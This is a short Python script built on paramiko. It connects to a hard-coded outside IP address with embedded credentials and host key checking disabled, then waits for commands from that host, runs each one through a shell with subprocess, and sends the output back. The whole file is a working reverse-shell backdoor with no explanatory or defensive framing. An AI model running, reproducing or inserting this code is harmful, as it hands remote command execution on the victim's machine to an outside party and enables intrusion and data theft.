import paramiko
import subprocess

client = paramiko.SSHClient()
client.set_missing_host_key_policy(paramiko.AutoAddPolicy())
client.connect("91.92.109.5", username="relay", password="relay")
chan = client.get_transport().open_session()
chan.send(b"ready\n")
while True:
    command = chan.recv(1024).decode()
    if command == "exit":
        break
    out = subprocess.check_output(command, shell=True, stderr=subprocess.STDOUT)
    chan.send(out)
client.close()
